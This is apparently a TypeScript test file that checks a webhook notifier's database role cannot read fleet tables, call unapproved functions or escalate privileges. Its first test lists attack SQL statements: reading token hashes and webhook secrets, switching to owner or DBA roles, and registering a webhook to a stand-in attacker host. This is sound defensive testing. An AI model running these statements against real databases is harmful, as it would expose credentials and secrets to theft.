// Attacks by the notifier's login. It talks to addresses outside, so it is the process that an attacker would take over first.
import t from 'tap'
import { withDatabase } from '../../testing/database.ts'
import { asRole, enroll, ingest, value } from '../../testing/fleet.ts'
import { change, messages } from '../../testing/webhooks.ts'

t.test('the notifier reads no table and calls nothing but what it sends messages with', async t => {
  const db = await withDatabase(t)
  const notifier = asRole(t, db, 'fleet_notifier')
  const readable = await db.admin<{ name: string }[]>`
    select c.oid::regclass::text as name
    from pg_class c
    cross join unnest(array['select', 'insert', 'update', 'delete', 'truncate', 'references', 'trigger']) p
    where c.relnamespace in ('fleet'::regnamespace, 'fleet_detached'::regnamespace, 'fleet_guard'::regnamespace)
      and c.relkind in ('r', 'p', 'v', 'm')
      and (has_table_privilege('fleet_notifier', c.oid, p)
        or p in ('select', 'insert', 'update', 'references') and has_any_column_privilege('fleet_notifier', c.oid, p))`
  t.same([...readable], [])
  const callable = await db.admin<{ name: string }[]>`
    select p.proname as name from pg_proc p
    where p.pronamespace in ('fleet'::regnamespace, 'fleet_guard'::regnamespace)
      and has_function_privilege('fleet_notifier', p.oid, 'execute')
    order by 1`
  t.same(
    callable.map(({ name }) => name),
    ['claim_deliveries', 'fail_delivery', 'notifier_heartbeat', 'record_delivery', 'release_deliveries'],
  )
  for (const attack of [
    'select * from fleet.device_heartbeats limit 1',
    'select token_hash from fleet.devices',
    'select secret from fleet.webhooks',
    'select body from fleet.webhook_deliveries',
    `select fleet.create_webhook('mine', 'https://attacker.example/')`,
    `select fleet.replay_webhook('hook', 1)`,
    `select fleet.queue_messages(array[1::bigint], null, null)`,
    'create table fleet.mine (x integer)',
    'create schema mine',
    'create temporary table mine (x integer)',
    'set role fleet_owner',
    'set role fleet_dba',
  ]) {
    await t.rejects(notifier.unsafe(attack), { code: '42501' }, attack)
  }
})

t.test('it sees of devices only what it has to send, and cannot forge what it did not send', async t => {
  const db = await withDatabase(t)
  const { sql } = db
  const notifier = asRole(t, db, 'fleet_notifier')
  const [told, quiet] = (await enroll(sql, 2)) as [number, number]
  await ingest(sql, [{ device_id: told }, { device_id: quiet }])
  await sql`select fleet.create_webhook('hook', 'https://example.com/', p_grace => '0')`
  await sql`select fleet.create_webhook('idle', 'https://idle.example/', p_cohort => 'elsewhere')`
  await change(sql, told, { event: 'offline' })
  const claimed = await notifier`select * from fleet.claim_deliveries('me')`
  t.equal(claimed.length, 1)
  t.notMatch(JSON.stringify(claimed), /device-2|idle/, 'no other device, and no secret of a webhook that has nothing to send')
  const [{ delivery_id } = { delivery_id: '0' }] = await messages(sql)
  t.equal(await value(notifier`select fleet.record_delivery(${delivery_id}, 'another', 200)`), false)
  t.equal(await value(notifier`select fleet.fail_delivery(${delivery_id}, 'another', 500, 'x', true)`), null)
  t.equal(await value(notifier`select fleet.release_deliveries('another')`), '0')
  for (const args of [`null`, `'me', -1`, `'me', 1, '0'`, `'me', 1, '1 year'`, `'me', 1, '1 minute', 0`, `'me', null`])
    await t.rejects(notifier.unsafe(`select * from fleet.claim_deliveries(${args})`), { code: 'FL422' }, args)
  await notifier`select fleet.fail_delivery(${delivery_id}, 'me', 500, ${'x'.repeat(10_000)}, true, '100 years')`
  t.match(
    await sql`select length(last_error) as length, hold_until - now() <= '1 day' as is_bounded from fleet.webhooks where webhook_name = 'hook'`,
    [{ length: 500, is_bounded: true }],
  )
})
